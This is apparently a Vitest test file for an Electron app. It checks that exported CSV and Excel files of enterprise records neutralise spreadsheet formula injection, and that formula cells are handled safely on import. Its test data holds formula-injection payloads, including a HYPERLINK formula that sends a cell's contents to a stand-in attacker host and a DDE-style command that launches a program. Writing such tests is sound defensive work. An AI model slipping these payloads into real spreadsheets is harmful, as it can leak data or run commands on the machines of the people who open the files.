import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import { parse } from 'csv-parse/sync'
import ExcelJS from 'exceljs'
import { describe, expect, it } from 'vitest'
import { previewEnterprises } from '../../../electron/core/exchange/enterprise-import'
import { useTempCore } from '../../helpers/core'
import { exchangeOf } from '../exchange/helpers'

const FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"点此")', '+SUM(1,2)', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)', '\t=1+1', '\r=1+1']

describe('spreadsheet safety', () => {
  const t = useTempCore()

  it('neutralises CSV cells a spreadsheet would run as formulas; the .xlsx keeps them as text', async () => {
    for (const name of FORMULAS) t.core.records.enterprise.create({ name, region: '-江苏', allowDuplicate: true })
    t.core.records.enterprise.create({ name: '汇润机电有限公司' })
    const csv = join(t.dir, 'enterprises.csv')
    await exchangeOf(t.core).exportTableTo({ kind: 'enterprises', format: 'csv', language: 'zh' }, csv)
    const rows = parse(readFileSync(csv, 'utf8').slice(1), { relax_column_count: true }) as string[][]
    const cells = rows.slice(1).flat()
    // No cell of the file starts with a character that makes it a formula.
    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([])
    // Names are stored trimmed; each is written with the apostrophe that keeps it text.
    for (const name of FORMULAS) expect(cells).toContain(`'${name.trim()}`)
    expect(cells).toContain("'-江苏")
    expect(cells).toContain('汇润机电有限公司')

    const xlsx = join(t.dir, 'enterprises.xlsx')
    await exchangeOf(t.core).exportTableTo({ kind: 'enterprises', format: 'xlsx', language: 'zh' }, xlsx)
    const workbook = new ExcelJS.Workbook()
    await workbook.xlsx.readFile(xlsx)
    const values: unknown[] = []
    workbook.worksheets[0]!.eachRow((row) => values.push(...(row.values as unknown[])))
    expect(values.some((value) => typeof value === 'object' && value !== null && 'formula' in value)).toBe(false)
  })

  it('imports a formula cell by its cached value and refuses one without, with a reason', async () => {
    const workbook = new ExcelJS.Workbook()
    const sheet = workbook.addWorksheet('企业')
    sheet.addRow(['单位名称', '所属行业'])
    sheet.addRow(['汇润机电有限公司', { formula: 'LOWER("装备制造")', result: '装备制造' }])
    sheet.addRow([{ formula: 'CONCAT("七彩","灵慧")' }, '电子信息'])
    const path = join(t.dir, 'formulas.xlsx')
    await workbook.xlsx.writeFile(path)
    const preview = await previewEnterprises(path)
    expect(JSON.stringify(preview.sampleRows)).not.toContain('[object Object]')
    const report = await exchangeOf(t.core).importEnterprisesFrom(path, { mapping: { name: 0, industry: 1 }, decisions: {}, dryRun: false })
    expect(report).toMatchObject({ created: 1, refused: 1 })
    expect(report.refusedRows).toEqual([{ row: 3, name: '', errors: [{ path: 'name', key: 'formulaWithoutValue' }] }])
    expect(t.core.records.enterprise.list().map((e) => [e['name'], e['industry']])).toEqual([['汇润机电有限公司', '装备制造']])
  })
})
